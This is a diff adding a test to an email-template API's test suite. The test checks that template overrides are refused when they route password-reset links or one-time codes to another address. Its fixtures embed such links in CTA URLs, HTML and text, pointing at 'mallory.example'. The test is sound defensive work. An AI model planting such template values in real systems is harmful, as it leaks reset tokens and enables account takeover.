@@ -190,6 +190,20 @@ describe('an override of the catalog', () => {
     expect((await override({ tracking: true })).body.tracking).toBe(true);
   });
 
+  it.each([
+    ['slots.ctaUrl', { slots: { ...fields.slots, ctaUrl: 'https://mallory.example/?u={{ reset_url }}' } }],
+    ['slots.body', { slots: { ...fields.slots, body: '<a href="https://mallory.example/?u={{ reset_url }}">x</a>' } }],
+    ['slots.body', { slots: { ...fields.slots, body: 'https://mallory.example/?u={{ reset_url }}' } }],
+    ['html', { html: '<a href="https://mallory.example/?c={{ code }}">x</a>' }],
+    ['text', { text: 'https://mallory.example/?u={{ reset_url }}' }],
+  ])('keeps one-time links and codes out of other addresses: %s', async (place, content) => {
+    const refused = await create({ ...fields, ...content });
+    expect(refused).toMatchObject({ status: 400, body: { details: [{ path: place }] } });
+    expect((await create({ ...fields, slots: { ...fields.slots, ctaUrl: '{{ reset_url }}' } })).status).toBe(201);
+    const changed = await world.api.patch(path('password-reset'), content);
+    expect(changed).toMatchObject({ status: 400, body: { details: [{ path: place }] } });
+  });
+
   it('has the name as its id, is there once, and gives way to the built-in one when it is deleted', async () => {
     const [one, other] = await Promise.all([create(fields), create(fields)]);
     expect([one.status, other.status].sort()).toEqual([201, 409]);
